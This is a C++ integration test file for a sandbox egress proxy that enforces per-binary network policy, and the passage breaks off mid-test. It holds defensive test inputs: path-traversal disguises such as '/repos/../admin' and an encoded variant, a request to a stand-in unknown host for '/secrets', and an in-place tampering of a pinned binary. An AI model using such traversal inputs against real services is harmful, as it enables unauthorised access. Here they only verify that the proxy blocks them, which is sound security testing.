// The live network policy end to end: real HTTP and HTTPS upstream servers on loopback, reached
// from a real sandbox (bulwark-supervisor confining on this host: namespaces, veth, nftables,
// Landlock, seccomp) through its egress proxy, with curl and with a Python client. The policy is
// stored in a real policy-service on a real nats-server, and changed while the agent runs.
//
// The agent cannot be exec'd into, so it is a small shell loop that runs the command files the
// test drops into its work directory one at a time (cmd.1, cmd.2, ...) and writes their output
// and exit code next to them: every check is one such step, and the policy can change between
// steps while the same agent keeps running. Denials are read back as the structured events the
// supervisor publishes on bulwark.sandbox.<id>.logs (stream "denial").
#include <arpa/inet.h>
#include <doctest/doctest.h>
#include <netinet/in.h>
#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/x509v3.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <exception>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <list>
#include <mutex>
#include <optional>
#include <thread>

#include "bulwark/v1/common.pb.h"
#include "bulwark/v1/policy.pb.h"
#include "bulwark/v1/sandbox.pb.h"
#include "shared/bus.h"
#include "shared/error.h"
#include "shared/subjects.h"
#include "shared/util.h"
#include "tests/integration/suite.h"
#include "tests/support/test_pki.h"

using namespace bulwark;
using namespace bulwark::testing;
using namespace std::chrono_literals;
using nlohmann::json;
namespace fs = std::filesystem;

namespace {

// A shell word: s in single quotes (URLs with ';', '?' and '&' reach curl as they are).
std::string sq(const std::string& s) {
  std::string out = "'";
  for (char c : s) out += c == '\'' ? std::string("'\\''") : std::string(1, c);
  return out + "'";
}

// --- a test PKI: the "operator's" CA (given to the supervisor as --upstream-ca) and a server
// certificate it signed for 127.0.0.1 and localhost (as in supervisor/proxy/egress_proxy_test.cpp)

// --- what every test shares: nats-server, policy-service, the stream, the PKI ----------------

struct World {
  TempDir dir{"bulwark-np"};
  NatsServer nats;
  Process policy_service;
  std::unique_ptr<Bus> bus;
  TestPki pki{"Bulwark network policy test CA"};
  std::string python;  // python3's real path: what /proc/<pid>/exe names

  World() {
    require_binary("nft", "nftables");
    require_binary("curl", "curl");
    require_binary("python3", "python3");
    python = fs::canonical("/usr/bin/python3").string();
    policy_service = Process::spawn({.argv = {bin("bulwark-policy-service"), "--nats-url", nats.url()},
                                     .output_file = dir.file("policy-service.log")});
    bus = Bus::connect({nats.url(), "network-policy-test"});
    // The supervisor reports into this stream (gateway-api creates it in a full deployment).
    bus->ensure_stream(subjects::kSandboxStream, {subjects::kSandboxAll}, std::chrono::hours(1));
    bool up = wait_until([&] {
      try {
        bus->request<v1::HealthReply>(subjects::health("policy-service"), v1::HealthRequest(), 200ms);
        return true;
      } catch (const Error&) {
        return false;
      }
    }, 10s);
    if (!up) throw Error(Code::kUnavailable, "policy-service did not start:\n" + read_file(dir.file("policy-service.log")));
  }
};

World& world() {
  static World w;  // started by the first test that needs it, lives until the binary exits
  return w;
}

// --- upstream servers --------------------------------------------------------------------------

struct Seen {
  std::string method, path, body, host;
};

// A real HTTP or HTTPS server on 127.0.0.1 (cpp-httplib, own thread) that answers every request
// "<name>: <METHOD> <path>" and records what it received.
class Upstream {
 public:
  Upstream(std::string name, bool tls, const std::string& bind = "127.0.0.1") : name_(std::move(name)), tls_(tls) {
    if (tls) server_ = std::make_unique<httplib::SSLServer>(world().pki.leaf.get(), world().pki.leaf_key.get());
    else server_ = std::make_unique<httplib::Server>();
    auto handle = [this](const httplib::Request& req, httplib::Response& res) {
      {
        std::lock_guard lock(mu_);
        seen_.push_back({req.method, req.path, req.body, req.get_header_value("Host")});
      }
      res.set_content(name_ + ": " + req.method + " " + req.path, "text/plain");
    };
    server_->Get(".*", handle).Post(".*", handle).Put(".*", handle).Delete(".*", handle).Patch(".*", handle);
    port_ = server_->bind_to_any_port(bind);
    REQUIRE(port_ > 0);
    thread_ = std::thread([this] { server_->listen_after_bind(); });
    REQUIRE(wait_until([&] { return server_->is_running(); }, 5s));
  }
  ~Upstream() {
    server_->stop();
    thread_.join();
  }
  int port() const { return port_; }
  std::string url(const std::string& path) const {
    return std::string(tls_ ? "https" : "http") + "://127.0.0.1:" +
           std::to_string(port_) + path;
  }
  std::vector<Seen> seen() const {
    std::lock_guard lock(mu_);
    return seen_;
  }
  std::string reply(const std::string& method, const std::string& path) const { return name_ + ": " + method + " " + path; }

 private:
  std::string name_;
  bool tls_;
  std::unique_ptr<httplib::Server> server_;
  int port_ = 0;
  std::thread thread_;
  mutable std::mutex mu_;
  std::vector<Seen> seen_;
};

// --- a TCP relay in front of nats-server that can be cut --------------------------------------

class Relay {
 public:
  explicit Relay(int target_port) : target_(target_port) {
    listener_.reset(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
    sockaddr_in a = loopback(0);
    socklen_t len = sizeof a;
    int one = 1;
    ::setsockopt(listener_.get(), SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (::bind(listener_.get(), reinterpret_cast<sockaddr*>(&a), sizeof a) != 0 || ::listen(listener_.get(), 16) != 0 ||
        ::getsockname(listener_.get(), reinterpret_cast<sockaddr*>(&a), &len) != 0)
      throw Error(Code::kInternal, errno_text("relay listener", errno));
    port_ = ntohs(a.sin_port);
    acceptor_ = std::thread([this] { accept_loop(); });
  }
  ~Relay() {
    stopping_ = true;
    ::shutdown(listener_.get(), SHUT_RDWR);
    acceptor_.join();
    cut();
    std::lock_guard lock(mu_);
    for (auto& p : pairs_) {
      p.thread.join();
      ::close(p.client);
      ::close(p.server);
    }
  }
  std::string url() const { return "nats://127.0.0.1:" + std::to_string(port_); }

  // Closes every relayed connection and refuses new ones (accepted, then closed at once).
  void cut() {
    cut_ = true;
    std::lock_guard lock(mu_);
    for (auto& p : pairs_) {
      ::shutdown(p.client, SHUT_RDWR);
      ::shutdown(p.server, SHUT_RDWR);
    }
  }
  void restore() { cut_ = false; }
  int relayed() const { return relayed_; }

 private:
  struct Pair {
    int client, server;
    std::thread thread;
  };
  static sockaddr_in loopback(int port) {
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<uint16_t>(port));
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return a;
  }
  void accept_loop() {
    for (;;) {
      int c = ::accept4(listener_.get(), nullptr, nullptr, SOCK_CLOEXEC);
      if (c < 0) {
        if (stopping_) return;
        continue;
      }
      if (cut_ || stopping_) {
        ::close(c);
        if (stopping_) return;
        continue;
      }
      int s = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
      sockaddr_in a = loopback(target_);
      if (::connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) {
        ::close(c);
        ::close(s);
        continue;
      }
      ++relayed_;
      std::lock_guard lock(mu_);
      auto& p = pairs_.emplace_back(Pair{c, s, {}});
      p.thread = std::thread([c, s] { pump(c, s); });
    }
  }
  // Both directions until either side ends or the relay is cut (the relay closes the sockets at
  // its end, so cut() never shuts down a descriptor number that was reused).
  static void pump(int a, int b) {
    char buf[16384];
    pollfd fds[2] = {{a, POLLIN, 0}, {b, POLLIN, 0}};
    for (bool open = true; open;) {
      if (::poll(fds, 2, -1) < 0) break;
      for (int i = 0; i < 2 && open; ++i) {
        if (!(fds[i].revents & (POLLIN | POLLHUP | POLLERR))) continue;
        ssize_t n = ::read(fds[i].fd, buf, sizeof buf);
        if (n <= 0) {
          open = false;
          break;
        }
        for (ssize_t off = 0; off < n;) {
          ssize_t w = ::send(fds[1 - i].fd, buf + off, static_cast<size_t>(n - off), MSG_NOSIGNAL);
          if (w <= 0) {
            open = false;
            break;
          }
          off += w;
        }
      }
    }
    ::shutdown(a, SHUT_RDWR);
    ::shutdown(b, SHUT_RDWR);
  }

  int target_;
  int port_ = 0;
  Fd listener_;
  std::atomic<bool> cut_{false}, stopping_{false};
  std::atomic<int> relayed_{0};
  std::mutex mu_;
  std::list<Pair> pairs_;
  std::thread acceptor_;
};

// --- the sandbox ---------------------------------------------------------------------------------

struct Step {
  int rc = -1;
  std::string out, err;
};

struct CurlResult {
  int rc = -1;
  int code = 0;     // %{http_code}: the final response's status (000 when none)
  int connect = 0;  // %{http_connect}: the proxy's answer to CONNECT (000 for plain http://)
  std::string body, err;
};

// The agent: runs $D/cmd.N for N = 1, 2, ... as they appear; output and exit code next to them.
// NO_PROXY is unset: the supervisor sets NO_PROXY=localhost,127.0.0.1 (the agent's own loopback),
// but the upstream servers here are on the host's loopback, which only the proxy reaches.
const char* kAgentLoop = R"(D="$1"
unset NO_PROXY no_proxy
echo "agent loop ready in $D"
n=0
while :; do
  n=$((n+1))
  while [ ! -e "$D/cmd.$n" ]; do
    [ -e "$D/stop" ] && exit 0
    sleep 0.02
  done
  sh "$D/cmd.$n" > "$D/out.$n" 2> "$D/err.$n"
  echo $? > "$D/rc.$n.tmp" && mv "$D/rc.$n.tmp" "$D/rc.$n"
done
)";

// A Python HTTP client: urllib with the proxy and CA settings from the environment.
const char* kPythonClient = R"(import sys, urllib.request, urllib.error
method, url = sys.argv[1], sys.argv[2]
data = sys.argv[3].encode() if len(sys.argv) > 3 else None
try:
    with urllib.request.urlopen(urllib.request.Request(url, data=data, method=method), timeout=20) as r:
        print("status", r.status)
        print(r.read().decode())
except urllib.error.HTTPError as e:
    print("status", e.code)
    print(e.read().decode())
except urllib.error.URLError as e:
    print("error", e.reason)
)";

class Sandbox {
 public:
  // network: the YAML under `network_policies:` (indented by two spaces); @WORK@ stands for the
  // agent's work directory.
  // transparent: --transparent-egress true, with `hosts` bind-mounted over /etc/hosts for the
  // supervisor (and so the agent) in a mount namespace of their own: names the test controls.
  explicit Sandbox(const std::string& network, bool through_relay = false, bool transparent = false,
                   const std::string& hosts = "")
      : id_(random_hex(8)), root_("bulwark-np-sandbox"), logs_("bulwark-np-logs") {
    World& w = world();
    ::chmod(root_.path().c_str(), 0755);  // the agent's uid must traverse to its work dir
    work_ = root_.file("work");
    REQUIRE(::mkdir(work_.c_str(), 0777) == 0);
    ::chmod(work_.c_str(), 0777);
    std::ofstream(work_ + "/agent.sh") << kAgentLoop;
    std::ofstream(work_ + "/client.py") << kPythonClient;
    policy_ = "version: 1\n"
              "filesystem_policy:\n"
              "  include_workdir: false\n"
              "  read_only: [/usr, /lib, /lib64, /bin, /etc, /proc, /dev/urandom]\n"
              "  read_write: [" + work_ + ", /dev/null]\n"
              "landlock: { compatibility: best_effort }\n"
              "network_policies:\n" + network;
    for (size_t at; (at = policy_.find("@WORK@")) != std::string::npos;) policy_.replace(at, 6, work_);
    // Version 1 is stored before the sandbox starts, as the gateway does at create.
    v1::PolicySetRequest set;
    set.set_sandbox_id(id_);
    set.set_yaml(policy_);
    set.set_reason("network policy test");
    auto r = w.bus->request<v1::PolicyWriteReply>(subjects::policy_op("set"), set, 10s);
    REQUIRE(r.version() == 1);

    log_sub_ = w.bus->subscribe(subjects::sandbox_logs(id_), [this](Msg& m) {
      v1::LogLine l;
      if (!l.ParseFromArray(m.data().data(), static_cast<int>(m.data().size()))) return;
      std::lock_guard lock(mu_);
      lines_.push_back(l);
    });
    ack_sub_ = w.bus->subscribe(subjects::policy_ack(id_), [this](Msg& m) {
      v1::PolicyAck a;
      if (!a.ParseFromArray(m.data().data(), static_cast<int>(m.data().size()))) return;
      std::lock_guard lock(mu_);
      acks_.push_back(a);
    });
    w.bus->flush();

    std::string url = w.nats.url();
    if (through_relay) {
      relay_ = std::make_unique<Relay>(w.nats.port());
      url = relay_->url();
    }
    std::vector<std::string> argv = {bin("bulwark-supervisor"), "--nats-url", url, "--sandbox-id", id_,
                                     "--upstream-ca", w.pki.ca_file, "--log-level", "debug"};
    if (transparent) {
      argv.insert(argv.end(), {"--transparent-egress", "true"});
      std::string hosts_file = logs_.file("hosts");
      std::ofstream(hosts_file) << hosts;
      argv.insert(argv.begin(), {"unshare", "--mount", "--propagation", "private", "sh", "-c",
                                 "mount --bind \"$0\" /etc/hosts && exec \"$@\"", hosts_file});
    }
    argv.insert(argv.end(), {"--", "/bin/sh", work_ + "/agent.sh", work_});
    supervisor_ = Process::spawn({.argv = argv,
                                  .env = std::vector<std::string>{"PATH=/usr/bin:/bin", "BULWARK_POLICY_YAML=" + policy_},
                                  .output_file = logs_.file("supervisor.log")});
    // Ready once the supervisor enforces version 1 from the store (before that it enforces the
    // same text as "version 0", from its environment).
    REQUIRE_MESSAGE(wait_ack(1, 20s), "the supervisor never acknowledged version 1:\n" << log());
  }

  ~Sandbox() {
    std::ofstream(work_ + "/stop") << "";  // the agent's loop exits 0, and so must the supervisor
    auto code = supervisor_.wait_for(10s);
    if (!code) supervisor_.stop();
    if (std::uncaught_exceptions() == 0)
      CHECK_MESSAGE(code == std::optional<int>(0), "the supervisor did not exit cleanly with the agent:\n" << log());
  }

  const std::string& id() const { return id_; }
  const std::string& work() const { return work_; }
  Relay& relay() { return *relay_; }
  pid_t supervisor_pid() const { return supervisor_.pid(); }
  bool supervisor_running() { return !supervisor_.try_wait(); }

  std::string log() const {
    auto s = read_file(logs_.file("supervisor.log"));
    return s.size() > 6000 ? s.substr(s.size() - 6000) : s;
  }

  // One step of the agent: runs `cmd` with sh in the sandbox and waits for it to end.
  Step run(const std::string& cmd, std::chrono::milliseconds timeout = 30s) {
    int n = ++steps_;
    std::string tmp = work_ + "/.cmd." + std::to_string(n);
    std::ofstream(tmp) << cmd << "\n";
    REQUIRE(::rename(tmp.c_str(), (work_ + "/cmd." + std::to_string(n)).c_str()) == 0);
    std::string rc_file = work_ + "/rc." + std::to_string(n);
    bool done = wait_until([&] { return fs::exists(rc_file) || supervisor_.try_wait().has_value(); }, timeout);
    REQUIRE_MESSAGE(done, "step " << n << " did not finish: " << cmd << "\n" << log());
    REQUIRE_MESSAGE(fs::exists(rc_file), "the sandbox ended during step " << n << ": " << cmd << "\n" << log());
    Step s;
    s.rc = std::stoi(read_file(rc_file));
    s.out = read_file(work_ + "/out." + std::to_string(n));
    s.err = read_file(work_ + "/err." + std::to_string(n));
    return s;
  }

  // curl through the proxy (HTTP(S)_PROXY from the agent's environment), verifying TLS against
  // the bundle the supervisor gave it (CURL_CA_BUNDLE): no -k anywhere.
  CurlResult curl(const std::string& args, const std::string& program = "curl") {
    std::string body = work_ + "/body." + std::to_string(steps_ + 1);
    Step s = run(program + " -sS -o " + body + " -w '%{http_code} %{http_connect}' " + args);
    CurlResult c;
    c.rc = s.rc;
    c.err = s.err;
    c.body = read_file(body);
    if (std::sscanf(s.out.c_str(), "%d %d", &c.code, &c.connect) != 2) FAIL("curl printed no codes: " << s.out << s.err);
    return c;
  }

  // The Python client: "status N\n<body>" or "error <reason>".
  std::string python(const std::string& method, const std::string& url, const std::string& data = "") {
    Step s = run("python3 " + work_ + "/client.py " + method + " " + sq(url) + (data.empty() ? "" : " " + sq(data)));
    return s.out + s.err;
  }

  // The lines the supervisor relayed from the agent's stdout.
  std::vector<std::string> stdout_lines() const {
    std::lock_guard lock(mu_);
    std::vector<std::string> out;
    for (const auto& l : lines_)
      if (l.stream() == "stdout") out.push_back(l.line());
    return out;
  }

  std::vector<v1::Denial> denials() const {
    std::lock_guard lock(mu_);
    std::vector<v1::Denial> out;
    for (const auto& l : lines_)
      if (l.stream() == "denial") out.push_back(l.denial());
    return out;
  }

  // The first denial event (published by the supervisor) that satisfies pred.
  std::optional<v1::Denial> wait_denial(const std::function<bool(const v1::Denial&)>& pred,
                                        std::chrono::milliseconds timeout = 10s) const {
    std::optional<v1::Denial> found;
    wait_until([&] {
      for (const auto& d : denials())
        if (pred(d)) {
          found = d;
          return true;
        }
      return false;
    }, timeout);
    return found;
  }

  std::string all_denials() const {
    std::string out;
    for (const auto& d : denials()) out += d.ShortDebugString() + "\n";
    return out;
  }

  bool wait_ack(uint64_t version, std::chrono::milliseconds timeout) const {
    return wait_until([&] {
      std::lock_guard lock(mu_);
      for (const auto& a : acks_)
        if (a.version() >= version) return true;
      return false;
    }, timeout);
  }

  v1::PolicyWriteReply update(const std::vector<v1::PolicyOperation>& ops, uint32_t wait_ms) {
    v1::PolicyUpdateRequest req;
    req.set_sandbox_id(id_);
    for (const auto& op : ops) *req.add_operations() = op;
    req.set_wait_ms(wait_ms);
    req.set_reason("network policy test");
    return world().bus->request<v1::PolicyWriteReply>(subjects::policy_op("update"), req,
                                                      std::chrono::milliseconds(wait_ms) + 10s);
  }

 private:
  std::string id_;
  TempDir root_, logs_;
  std::string work_, policy_;
  int steps_ = 0;
  mutable std::mutex mu_;
  std::vector<v1::LogLine> lines_;
  std::vector<v1::PolicyAck> acks_;
  std::unique_ptr<Relay> relay_;
  Subscription log_sub_, ack_sub_;  // after what their handlers touch: unsubscribed first
  Process supervisor_;
};

// One network_policies entry: `key` lets `binaries` reach `endpoint` (a flow mapping).
std::string entry(const std::string& key, const std::string& endpoint, const std::vector<std::string>& binaries) {
  std::string s = "  " + key + ":\n    endpoints:\n      - " + endpoint + "\n    binaries:\n";
  for (const auto& b : binaries) s += "      - { path: " + b + " }\n";
  return s;
}

std::string ep(int port, const std::string& rest = "") {
  return "{ host: 127.0.0.1, port: " + std::to_string(port) + (rest.empty() ? "" : ", " + rest) + " }";
}

json error_of(const std::string& body) {
  json j = json::parse(body, nullptr, false);
  if (j.is_discarded() || !j.contains("error")) return json::object();
  return j["error"];
}

v1::PolicyOperation add_endpoint(const std::string& key, const std::string& endpoint_yaml,
                                 const std::vector<std::string>& binaries) {
  v1::PolicyOperation op;
  auto* a = op.mutable_add_endpoint();
  a->set_network_policy(key);
  a->set_endpoint_yaml(endpoint_yaml);
  for (const auto& b : binaries) a->add_binaries(b);
  return op;
}

v1::PolicyOperation add_allow(int port, const std::string& rule_yaml) {
  v1::PolicyOperation op;
  auto* a = op.mutable_add_rule();
  a->set_host("127.0.0.1");
  a->set_port(static_cast<uint32_t>(port));
  a->set_rule_yaml(rule_yaml);
  return op;
}

}  // namespace

TEST_CASE("1. an allowed GET over HTTPS with curl passes through the intercepting proxy") {
  Upstream api("api", true);
  Sandbox sb(entry("api", ep(api.port(), "protocol: rest, access: read-only"), {"/usr/bin/curl"}));
  auto r = sb.curl(sq(api.url("/repos/bulwark/issues?state=open")));
  CHECK_MESSAGE(r.rc == 0, r.err << sb.log());
  CHECK(r.connect == 200);
  CHECK(r.code == 200);
  CHECK(r.body == api.reply("GET", "/repos/bulwark/issues"));
  auto seen = api.seen();
  REQUIRE(seen.size() == 1);
  CHECK(seen[0].method == "GET");
  CHECK(seen[0].path == "/repos/bulwark/issues");
  CHECK(seen[0].host == "127.0.0.1:" + std::to_string(api.port()));
  CHECK_MESSAGE(sb.denials().empty(), sb.all_denials());
  // The agent's own output is relayed on the same log subject.
  CHECK(wait_until([&] {
    auto lines = sb.stdout_lines();
    return std::find(lines.begin(), lines.end(), "agent loop ready in " + sb.work()) != lines.end();
  }, 5s));
}

TEST_CASE("2. a POST to an access: read-only endpoint is denied by L7 with a 403 naming the rule") {
  Upstream api("api", true);
  Sandbox sb(entry("api", ep(api.port(), "protocol: rest, access: read-only"), {"/usr/bin/curl"}));
  auto r = sb.curl("-X POST -d 'title=x' " + sq(api.url("/repos/bulwark/issues")));
  CHECK(r.connect == 200);  // the tunnel is allowed: the request inside it is not
  CHECK_MESSAGE(r.code == 403, r.body << r.err);
  json e = error_of(r.body);
  CHECK_MESSAGE(e.value("code", "") == "policy_denied", r.body);
  CHECK_MESSAGE(has(e.value("rule", ""), "network_policies.api.endpoints[0]"), r.body);
  CHECK(e.value("policy_version", 0) == 1);
  CHECK_MESSAGE(has(e.value("message", ""), "POST"), r.body);
  CHECK(api.seen().empty());  // nothing reached the server

  auto d = sb.wait_denial([](const v1::Denial& x) { return x.method() == "POST"; });
  REQUIRE_MESSAGE(d, sb.all_denials() << sb.log());
  CHECK(d->layer() == "proxy");
  CHECK_FALSE(d->audit());
  CHECK(d->binary() == "/usr/bin/curl");
  CHECK(d->host() == "127.0.0.1");
  CHECK(d->port() == static_cast<uint32_t>(api.port()));
  CHECK(d->path() == "/repos/bulwark/issues");
  CHECK(has(d->rule(), "network_policies.api.endpoints[0]"));
  CHECK(d->policy_version() == 1);

  // The GET twin on the same endpoint still passes.
  auto ok = sb.curl(sq(api.url("/repos/bulwark/issues")));
  CHECK(ok.code == 200);
  CHECK(api.seen().size() == 1);
}

TEST_CASE("3. an unknown host is denied: CONNECT and plain http:// both get a 403 (bulwark:default-deny)") {
  Upstream api("api", true);
  Sandbox sb(entry("api", ep(api.port(), "protocol: rest, access: read-only"), {"/usr/bin/curl"}));
  auto tls = sb.curl("https://unknown.bulwark-test.example/secrets");
  CHECK(tls.connect == 403);
  CHECK(tls.rc == 56);  // CONNECT tunnel failed
  auto plain = sb.curl("http://unknown.bulwark-test.example/secrets");
  CHECK(plain.code == 403);
  json e = error_of(plain.body);
  CHECK_MESSAGE(e.value("rule", "") == "bulwark:default-deny", plain.body);
  CHECK(e.value("policy_version", 0) == 1);
  // A listed host on a port the policy does not name is just as unknown.
  auto port = sb.curl("https://127.0.0.1:" + std::to_string(free_port()) + "/");
  CHECK(port.connect == 403);

  auto connect = sb.wait_denial([](const v1::Denial& x) { return x.method() == "CONNECT" && x.port() == 443; });
  REQUIRE_MESSAGE(connect, sb.all_denials() << sb.log());
  CHECK(connect->host() == "unknown.bulwark-test.example");
  CHECK(connect->rule() == "bulwark:default-deny");
  CHECK(connect->binary() == "/usr/bin/curl");
  CHECK(connect->policy_version() == 1);
  auto get = sb.wait_denial([](const v1::Denial& x) { return x.method() == "GET" && x.port() == 80; });
  REQUIRE_MESSAGE(get, sb.all_denials());
  CHECK(get->host() == "unknown.bulwark-test.example");
  CHECK(get->rule() == "bulwark:default-deny");
  CHECK(get->path() == "/secrets");
  CHECK(api.seen().empty());
}

TEST_CASE("4. the right host from the wrong binary is denied: python3 where only curl is listed; python3 where it is listed passes") {
  Upstream curl_only("curl-only", true), for_python("for-python", true);
  const std::string py = world().python;
  Sandbox sb(entry("curl_only", ep(curl_only.port(), "protocol: rest, access: read-only"), {"/usr/bin/curl"}) +
             entry("python", ep(for_python.port(), "protocol: rest, access: read-only"), {py}));
  // Positive twins: each binary on its own endpoint.
  auto by_curl = sb.curl(sq(curl_only.url("/data")));
  CHECK_MESSAGE(by_curl.code == 200, by_curl.body << by_curl.err);
  std::string ok = sb.python("GET", for_python.url("/data"));
  CHECK_MESSAGE(has(ok, "status 200"), ok << sb.log());
  CHECK_MESSAGE(has(ok, for_python.reply("GET", "/data")), ok);
  // L7 inside python's TLS too: its POST to the read-only endpoint gets the proxy's 403.
  std::string post = sb.python("POST", for_python.url("/data"), "x=1");
  CHECK_MESSAGE(has(post, "status 403"), post);
  CHECK_MESSAGE(has(post, "\"rule\":\"network_policies.python.endpoints[0]"), post);

  // python3 on curl's endpoint: refused at CONNECT, before any TLS.
  std::string denied = sb.python("GET", curl_only.url("/data"));
  CHECK_MESSAGE(has(denied, "Tunnel connection failed: 403"), denied);
  CHECK(curl_only.seen().size() == 1);  // only curl's request
  auto d = sb.wait_denial([&](const v1::Denial& x) { return x.binary() == py && x.method() == "CONNECT"; });
  REQUIRE_MESSAGE(d, sb.all_denials() << sb.log());
  CHECK(d->method() == "CONNECT");
  CHECK(d->port() == static_cast<uint32_t>(curl_only.port()));
  CHECK(d->rule() == "network_policies.curl_only.endpoints[0]");
  CHECK_MESSAGE(has(d->reason(), "binary " + py), d->reason());
  CHECK(d->policy_version() == 1);

  // And curl on python's endpoint.
  auto wrong = sb.curl(sq(for_python.url("/data")));
  CHECK(wrong.connect == 403);
  CHECK(for_python.seen().size() == 1);
}

TEST_CASE("5. a replaced binary is denied: first use pins it, changed bytes at the same path get bulwark:binary-changed") {
  Upstream plain("plain", false);
  Sandbox sb(entry("mycurl", ep(plain.port()), {"@WORK@/mycurl"}));
  const std::string mycurl = sb.work() + "/mycurl";
  REQUIRE(sb.run("cp /usr/bin/curl " + mycurl).rc == 0);

  // First use over plain http:// (an L4 endpoint): allowed, and the bytes are pinned.
  auto first = sb.curl(sq(plain.url("/first")), mycurl);
  CHECK_MESSAGE(first.code == 200, first.body << first.err << sb.log());
  CHECK(first.body == plain.reply("GET", "/first"));
  // The same bytes at another path are another binary: /usr/bin/curl is not listed.
  auto system_curl = sb.curl(sq(plain.url("/system")));
  CHECK(system_curl.code == 403);
  CHECK(error_of(system_curl.body).value("rule", "") == "network_policies.mycurl.endpoints[0]");

  // The agent rewrites its binary in place: one more byte at the end, and it still runs.
  auto replaced = sb.run("printf '\\n' >> " + mycurl + " && " + mycurl + " --version");
  REQUIRE_MESSAGE(replaced.rc == 0, replaced.err);
  CHECK(has(replaced.out, "curl "));
  auto second = sb.curl(sq(plain.url("/second")), mycurl);
  CHECK_MESSAGE(second.code == 403, second.body << second.err);
  json e = error_of(second.body);
  CHECK_MESSAGE(e.value("rule", "") == "bulwark:binary-changed", second.body);
  CHECK_MESSAGE(has(e.value("message", ""), "binary changed since first use: " + mycurl), second.body);
  auto seen = plain.seen();
  REQUIRE(seen.size() == 1);
  CHECK(seen[0].path == "/first");

  auto d = sb.wait_denial([](const v1::Denial& x) { return x.rule() == "bulwark:binary-changed"; });
  REQUIRE_MESSAGE(d, sb.all_denials() << sb.log());
  CHECK(d->binary() == mycurl);
  CHECK(d->path() == "/second");
  CHECK(d->port() == static_cast<uint32_t>(plain.port()));
  CHECK(d->policy_version() == 1);
}

TEST_CASE("6. a path-traversal disguise is judged by its canonical path: /repos/../admin is /admin, denied") {
  Upstream repos("repos", true);
  Sandbox sb(entry("repos", ep(repos.port(), "protocol: rest, rules: [{ allow: { method: GET, path: \"/repos/**\" } }]"),
                   {"/usr/bin/curl"}));
  auto ok = sb.curl(sq(repos.url("/repos/bulwark/readme")));
  CHECK_MESSAGE(ok.code == 200, ok.body << ok.err << sb.log());

  auto dotdot = sb.curl("--path-as-is " + sq(repos.url("/repos/../admin")));
  CHECK(dotdot.connect == 200);
  CHECK_MESSAGE(dotdot.code == 403, dotdot.body);
  CHECK_MESSAGE(has(error_of(dotdot.body).value("rule", ""), "network_policies.repos.endpoints[0]"), dotdot.body);
  CHECK_MESSAGE(has(error_of(dotdot.body).value("message", ""), "/admin"), dotdot.body);
  auto encoded = sb.curl("--path-as-is " + sq(repos.url("/repos/%2e%2e/admin")));
  CHECK_MESSAGE(encoded.code == 403, encoded.body);
  auto semicolon = sb.curl("--path-as-is " + sq(repos.url("/repos/x;y/../../admin")));
  CHECK_MESSAGE(semicolon.code == 403, semicolon.body);

  auto seen = repos.seen();
  REQUIRE(seen.size() == 1);  // none of the disguises reached the server
  CHECK(seen[0].path == "/repos/bulwark/readme");
  auto d = sb.wait_denial([](const v1::Denial& x) { return x.path() == "/admin"; });
  REQUIRE_MESSAGE(d, sb.all_denials() << sb.log());
  CHECK(d->method() == "GET");
  CHECK(d->binary() == "/usr/bin/curl");
}

TEST_CASE("7. enforcement: audit lets a violating request through and reports it as an audit event") {
  Upstream wiki("wiki", true);
  Sandbox sb(entry("wiki", ep(wiki.port(), "protocol: rest, access: read-only, enforcement: audit"), {"/usr/bin/curl"}));
  auto get = sb.curl(sq(wiki.url("/page")));
  CHECK_MESSAGE(get.code == 200, get.body << get.err << sb.log());
  auto post = sb.curl("-X POST -d 'note=hello' " + sq(wiki.url("/page")));
  CHECK_MESSAGE(post.code == 200, post.body << post.err);
  CHECK(post.body == wiki.reply("POST", "/page"));
  auto seen = wiki.seen();
  REQUIRE(seen.size() == 2);
  CHECK(seen[1].method == "POST");
  CHECK(seen[1].body == "note=hello");

  auto d = sb.wait_denial([](const v1::Denial& x) { return x.method() == "POST"; });
  REQUIRE_MESSAGE(d, sb.all_denials() << sb.log());
  CHECK(d->audit());
  CHECK(d->layer() == "proxy");
  CHECK(d->path() == "/page");
  CHECK(d->binary() == "/usr/bin/curl");
  CHECK(has(d->rule(), "network_policies.wiki.endpoints[0]"));
  CHECK_MESSAGE(d->reason().rfind("enforcement: audit, would deny:", 0) == 0, d->reason());
  CHECK(d->policy_version() == 1);
  // The GET broke no rule: it raised no event. (Events go out in order, so it would be before.)
  for (const auto& x : sb.denials()) CHECK_MESSAGE(x.method() != "GET", x.ShortDebugString());
}

TEST_CASE("8. --wait flips a decision on a running sandbox: acknowledged version 2, the same agent's next request passes") {
  Upstream other("other", true), late("late", true);
  Sandbox sb(entry("other", ep(other.port(), "protocol: rest, access: read-only"), {"/usr/bin/curl"}));
  auto before = sb.curl(sq(late.url("/v1/models")));
  CHECK(before.connect == 403);
  auto d = sb.wait_denial([&](const v1::Denial& x) { return x.port() == static_cast<uint32_t>(late.port()); });
  REQUIRE_MESSAGE(d, sb.all_denials() << sb.log());
  CHECK(d->rule() == "bulwark:default-deny");
  CHECK(d->policy_version() == 1);
  const pid_t pid = sb.supervisor_pid();

  auto t0 = std::chrono::steady_clock::now();
  auto rep = sb.update({add_endpoint("late", ep(late.port(), "protocol: rest, access: read-only"), {"/usr/bin/curl"})}, 10000);
  auto waited = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0);
  CHECK(rep.changed());
  CHECK(rep.version() == 2);
  CHECK_MESSAGE(rep.acknowledged(), rep.ShortDebugString() << sb.log());
  CHECK(rep.acked_version() == 2);
  CHECK(rep.ack_error().empty());
  CHECK_MESSAGE(waited < 5s, "the acknowledgement took " << waited.count() << " ms");
  MESSAGE("policy update acknowledged after " << waited.count() << " ms");

  auto after = sb.curl(sq(late.url("/v1/models")));
  CHECK_MESSAGE(after.code == 200, after.body << after.err << sb.log());
  CHECK(after.body == late.reply("GET", "/v1/models"));
  CHECK(late.seen().size() == 1);
  // Decisions now name version 2; and it is the same sandbox, never restarted.
  auto post = sb.curl("-X POST " + sq(late.url("/v1/models")));
  CHECK(post.code == 403);
  CHECK(error_of(post.body).value("policy_version", 0) == 2);
